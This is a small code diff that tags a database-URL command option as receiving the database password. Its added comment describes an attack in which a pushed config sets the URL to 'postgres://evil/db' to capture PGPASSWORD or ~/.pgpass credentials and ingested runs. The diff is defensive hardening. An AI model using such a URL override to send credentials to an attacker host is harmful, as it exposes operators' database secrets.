@@ -8,6 +8,9 @@ export const databaseOptions = {
     type: 'string',
     valueName: 'URL',
     description: 'postgres:// URL (default: DATABASE_URL, else the embedded database)',
+    // a pusher's `ingest: {database-url: postgres://evil/db}` would win over the operator's
+    // DATABASE_URL and take PGPASSWORD (or ~/.pgpass) and every run ingested to their server
+    receivesCredential: 'the database password (PGPASSWORD, ~/.pgpass)',
   },
   'data-dir': {
     type: 'string',
